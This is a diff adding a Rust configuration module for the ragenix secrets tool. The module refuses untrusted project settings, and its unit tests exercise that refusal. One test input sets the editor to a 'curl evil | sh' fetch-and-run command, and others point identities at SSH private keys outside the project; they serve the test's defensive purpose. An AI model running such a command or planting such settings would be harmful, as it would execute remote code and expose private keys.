@@ -0,0 +1,392 @@
+//! Persistent defaults read from the user and project configuration files
+
+use std::{
+    collections::BTreeMap,
+    env, fs,
+    path::{Path, PathBuf},
+};
+
+use color_eyre::{
+    eyre::{eyre, Result, WrapErr},
+    Help,
+};
+use serde::Deserialize;
+
+use crate::{access::MatrixFormat, cli::Defaults, util};
+
+/// Name of the rules file searched for if neither `rules` nor `rules-name` are configured
+const DEFAULT_RULES_NAME: &str = "secrets.nix";
+
+/// Name of the project configuration file in the parent directory of the rules file
+pub(crate) const PROJECT_CONFIG_NAME: &str = "ragenix.toml";
+
+/// Defaults for command line arguments
+#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
+#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
+pub(crate) struct Config {
+    pub identities: Option<Vec<String>>,
+    pub rules: Option<String>,
+    /// Name of the rules file searched for in the working directory and its ancestors
+    pub rules_name: Option<String>,
+    /// Directory the secrets of flake rules are relative to
+    pub rules_base_dir: Option<String>,
+    pub editor: Option<String>,
+    /// Format of `--access-matrix` if none is given
+    pub format: Option<String>,
+    pub temp_dir: Option<String>,
+    /// Arguments passed to rules which are a function, as Nix expressions
+    pub args: Option<BTreeMap<String, String>>,
+    /// Arguments passed to rules which are a function, as strings
+    pub argstrs: Option<BTreeMap<String, String>>,
+    pub impure: Option<bool>,
+    /// The `nix` or `nix-instantiate` binary, a path or a name looked up in `PATH`
+    pub nix: Option<String>,
+    /// Nix settings used when evaluating the rules
+    pub nix_options: Option<BTreeMap<String, String>>,
+    /// Evaluate the rules in restricted mode
+    pub restrict_eval: Option<bool>,
+    /// Reject attributes of secrets unknown to the rules schema
+    pub strict: Option<bool>,
+    /// Cache the evaluated Nix rules files
+    pub cache: Option<bool>,
+}
+
+/// The entries of a configured table as name and value pairs
+fn pairs(table: Option<&BTreeMap<String, String>>) -> Vec<(String, String)> {
+    table
+        .into_iter()
+        .flatten()
+        .map(|(name, value)| (name.clone(), value.clone()))
+        .collect()
+}
+
+/// Expand a leading `~` and make a relative path absolute with respect to `base_dir`
+fn resolve_path(base_dir: &Path, path: &str) -> Result<String> {
+    let path = match path.strip_prefix("~/") {
+        Some(rest) => home::home_dir()
+            .ok_or_else(|| eyre!("Could not determine home directory"))?
+            .join(rest),
+        None => PathBuf::from(path),
+    };
+    Ok(base_dir.join(path).to_string_lossy().to_string())
+}
+
+impl Config {
+    /// The path of the user configuration file, `$XDG_CONFIG_HOME/ragenix/config.toml`
+    pub(crate) fn user_path() -> Option<PathBuf> {
+        let config_home = env::var_os("XDG_CONFIG_HOME")
+            .map(PathBuf::from)
+            .filter(|path| path.is_absolute())
+            .or_else(|| home::home_dir().map(|home| home.join(".config")))?;
+        Some(config_home.join("ragenix/config.toml"))
+    }
+
+    /// Parse a configuration file.
+    ///
+    /// Paths in the configuration are resolved relative to `base_dir`.
+    pub(crate) fn parse(contents: &str, base_dir: &Path) -> Result<Self> {
+        let mut config: Self = toml::from_str(contents)?;
+        if let Some(format) = &config.format {
+            format.parse::<MatrixFormat>()?;
+        }
+        if let Some(identities) = &mut config.identities {
+            for identity in identities {
+                *identity = resolve_path(base_dir, identity)?;
+            }
+        }
+        for path in [
+            &mut config.rules,
+            &mut config.rules_base_dir,
+            &mut config.temp_dir,
+        ]
+        .into_iter()
+        .flatten()
+        {
+            *path = resolve_path(base_dir, path)?;
+        }
+        // A bare name is looked up in `PATH`
+        if let Some(nix) = config.nix.as_mut().filter(|nix| nix.contains('/')) {
+            *nix = resolve_path(base_dir, nix)?;
+        }
+        Ok(config)
+    }
+
+    /// Read the configuration file at `path` if it exists
+    pub(crate) fn read(path: &Path) -> Result<Option<Self>> {
+        if !path.exists() {
+            return Ok(None);
+        }
+        let contents = fs::read_to_string(path)
+            .wrap_err_with(|| format!("Failed to read {}", path.display()))?;
+        let base_dir = path.parent().unwrap_or_else(|| Path::new("."));
+        Self::parse(&contents, base_dir)
+            .map(Some)
+            .wrap_err_with(|| format!("Invalid configuration file {}", path.display()))
+    }
+
+    /// Read the project configuration next to the rules file at `rules_path` if it exists.
+    ///
+    /// The project configuration is as untrusted as the rules next to it. Thus, it must not set
+    /// anything which is executed or chooses paths to write to, and its identities must be
+    /// within its directory.
+    pub(crate) fn read_project(rules_path: &Path) -> Result<Option<Self>> {
+        let dir = match rules_path.parent() {
+            Some(dir) if !dir.as_os_str().is_empty() => dir,
+            _ => Path::new("."),
+        };
+        let dir = fs::canonicalize(dir)
+            .wrap_err_with(|| format!("Failed to resolve {}", dir.display()))?;
+        let path = dir.join(PROJECT_CONFIG_NAME);
+        let Some(config) = Self::read(&path)? else {
+            return Ok(None);
+        };
+
+        let forbidden = [
+            ("rules", config.rules.is_some()),
+            ("rules-name", config.rules_name.is_some()),
+            ("rules-base-dir", config.rules_base_dir.is_some()),
+            ("editor", config.editor.is_some()),
+            ("temp-dir", config.temp_dir.is_some()),
+            ("impure", config.impure.is_some()),
+            ("nix", config.nix.is_some()),
+            ("nix-options", config.nix_options.is_some()),
+            ("cache", config.cache.is_some()),
+        ]
+        .into_iter()
+        .filter_map(|(key, set)| set.then_some(key))
+        .collect::<Vec<_>>();
+        if !forbidden.is_empty() {
+            return Err(eyre!(
+                "The project configuration {} must not set {}",
+                path.display(),
+                forbidden.join(", ")
+            ))
+            .with_suggestion(|| {
+                "Set them in the user configuration or pass them on the command line instead"
+            });
+        }
+        for identity in config.identities.iter().flatten() {
+            if !util::normalize_path(Path::new(identity)).starts_with(&dir) {
+                return Err(eyre!(
+                    "The project configuration {} must not refer to the identity {identity} \
+                     outside of its directory",
+                    path.display()
+                ))
+                .with_suggestion(|| "Set the identity in the user configuration instead");
+            }
+        }
+        Ok(Some(config))
+    }
+
+    /// Combine two configurations, preferring the settings of `self`
+    pub(crate) fn or(self, fallback: Self) -> Self {
+        Self {
+            identities: self.identities.or(fallback.identities),
+            rules: self.rules.or(fallback.rules),
+            rules_name: self.rules_name.or(fallback.rules_name),
+            rules_base_dir: self.rules_base_dir.or(fallback.rules_base_dir),
+            editor: self.editor.or(fallback.editor),
+            format: self.format.or(fallback.format),
+            temp_dir: self.temp_dir.or(fallback.temp_dir),
+            args: self.args.or(fallback.args),
+            argstrs: self.argstrs.or(fallback.argstrs),
+            impure: self.impure.or(fallback.impure),
+            nix: self.nix.or(fallback.nix),
+            nix_options: self.nix_options.or(fallback.nix_options),
+            restrict_eval: self.restrict_eval.or(fallback.restrict_eval),
+            strict: self.strict.or(fallback.strict),
+            cache: self.cache.or(fallback.cache),
+        }
+    }
+
+    /// Keep only the settings which neither run anything, nor refer to paths, nor could weaken a
+    /// restricted evaluation, as a project configuration is as untrusted as the rules next to it
+    pub(crate) fn restricted(self) -> Self {
+        Self {
+            format: self.format,
+            args: self.args,
+            argstrs: self.argstrs,
+            strict: self.strict,
+            ..Self::default()
+        }
+    }
+
+    /// Name of the rules files searched for in parent directories and in directories passed as
+    /// rules
+    pub(crate) fn rules_name(&self) -> &str {
+        self.rules_name.as_deref().unwrap_or(DEFAULT_RULES_NAME)
+    }
+
+    /// Use the nearest rules file in the working directory or its ancestors unless `rules` is set
+    pub(crate) fn discover_rules(&mut self) -> Result<()> {
+        if self.rules.is_none() {
+            let name = self.rules_name();
+            let cwd = env::current_dir()?;
+            // Refer to the rules file relative to the working directory, e.g., `../secrets.nix`
+            self.rules = util::find_upwards(&cwd, name).map(|path| {
+                match cwd.ancestors().count() + 1 - path.ancestors().count() {
+                    0 => format!("./{name}"),
+                    depth => format!("{}{name}", "../".repeat(depth)),
+                }
+            });
+        }
+        Ok(())
+    }
+
+    pub(crate) fn defaults(&self) -> Defaults {
+        Defaults {
+            access_matrix: self.format.clone(),
+            args: pairs(self.args.as_ref()),
+            argstrs: pairs(self.argstrs.as_ref()),
+            cache: self.cache.unwrap_or_default(),
+            editor: self.editor.clone(),
+            identities: self.identities.clone().unwrap_or_default(),
+            impure: self.impure.unwrap_or_default(),
+            nix: self.nix.clone(),
+            nix_options: pairs(self.nix_options.as_ref()),
+            restrict_eval: self.restrict_eval.unwrap_or_default(),
+            rules: self.rules.clone(),
+            rules_base_dir: self.rules_base_dir.clone(),
+            strict: self.strict.unwrap_or_default(),
+            temp_dir: self.temp_dir.clone(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod test_config {
+    use indoc::indoc;
+
+    use super::*;
+
+    #[test]
+    fn parses_config() -> Result<()> {
+        let config = Config::parse(
+            indoc! {r#"
+                identities = [ "keys/id_ed25519", "/etc/ssh/ssh_host_ed25519_key" ]
+                rules = "secrets/secrets.nix"
+                editor = "vim -n"
+                format = "csv"
+                temp-dir = "/dev/shm"
+                impure = true
+                strict = true
+
+                [argstrs]
+                host = "wurzel"
+            "#},
+            Path::new("/home/wurzel/.config/ragenix"),
+        )?;
+        assert_eq!(
+            config,
+            Config {
+                identities: Some(vec![
+                    "/home/wurzel/.config/ragenix/keys/id_ed25519".to_string(),
+                    "/etc/ssh/ssh_host_ed25519_key".to_string()
+                ]),
+                rules: Some("/home/wurzel/.config/ragenix/secrets/secrets.nix".to_string()),
+                rules_name: None,
+                rules_base_dir: None,
+                editor: Some("vim -n".to_string()),
+                format: Some("csv".to_string()),
+                temp_dir: Some("/dev/shm".to_string()),
+                args: None,
+                argstrs: Some(BTreeMap::from([("host".to_string(), "wurzel".to_string())])),
+                impure: Some(true),
+                nix: None,
+                nix_options: None,
+                restrict_eval: None,
+                strict: Some(true),
+                cache: None,
+            }
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn rejects_invalid_config() {
+        assert!(Config::parse("editors = \"vim\"", Path::new("/")).is_err());
+        assert!(Config::parse("format = \"xml\"", Path::new("/")).is_err());
+        assert!(Config::parse("identities = \"id_ed25519\"", Path::new("/")).is_err());
+    }
+
+    #[test]
+    fn prefers_own_settings() {
+        let project = Config {
+            editor: Some("nano".to_string()),
+            ..Config::default()
+        };
+        let user = Config {
+            editor: Some("vim".to_string()),
+            format: Some("dot".to_string()),
+            ..Config::default()
+        };
+        let config = project.or(user);
+        assert_eq!(config.editor.as_deref(), Some("nano"));
+        assert_eq!(config.format.as_deref(), Some("dot"));
+    }
+
+    #[test]
+    fn rejects_untrusted_project_settings() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let rules_path = dir.path().join("secrets.nix");
+        let config_path = dir.path().join(PROJECT_CONFIG_NAME);
+
+        fs::write(
+            &config_path,
+            "format = \"csv\"\nstrict = true\nidentities = [ \"keys/id_ed25519\" ]\n",
+        )?;
+        let config = Config::read_project(&rules_path)?.unwrap_or_default();
+        assert_eq!(config.format.as_deref(), Some("csv"));
+
+        for setting in [
+            "editor = \"sh -c 'curl evil | sh'\"",
+            "temp-dir = \"/tmp\"",
+            "nix = \"./nix\"",
+            "impure = true",
+            "rules-base-dir = \"/\"",
+            "[nix-options]\nallow-import-from-derivation = \"true\"",
+            "identities = [ \"/etc/ssh/ssh_host_ed25519_key\" ]",
+            "identities = [ \"../id_ed25519\" ]",
+            "identities = [ \"~/.ssh/id_ed25519\" ]",
+        ] {
+            fs::write(&config_path, setting)?;
+            assert!(Config::read_project(&rules_path).is_err(), "{setting}");
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn restricted_project_keeps_user_settings() {
+        let project = Config {
+            identities: Some(vec!["/home/wurzel/secrets/id_ed25519".to_string()]),
+            editor: Some("nano".to_string()),
+            format: Some("csv".to_string()),
+            temp_dir: Some("/home/wurzel/secrets/tmp".to_string()),
+            impure: Some(true),
+            nix: Some("/home/wurzel/secrets/nix".to_string()),
+            nix_options: Some(BTreeMap::from([(
+                "allow-import-from-derivation".to_string(),
+                "true".to_string(),
+            )])),
+            restrict_eval: Some(false),
+            strict: Some(true),
+            ..Config::default()
+        };
+        let user = Config {
+            editor: Some("vim".to_string()),
+            restrict_eval: Some(true),
+            ..Config::default()
+        };
+        let config = project.restricted().or(user);
+        assert_eq!(
+            config,
+            Config {
+                editor: Some("vim".to_string()),
+                format: Some("csv".to_string()),
+                restrict_eval: Some(true),
+                strict: Some(true),
+                ..Config::default()
+            }
+        );
+    }
+}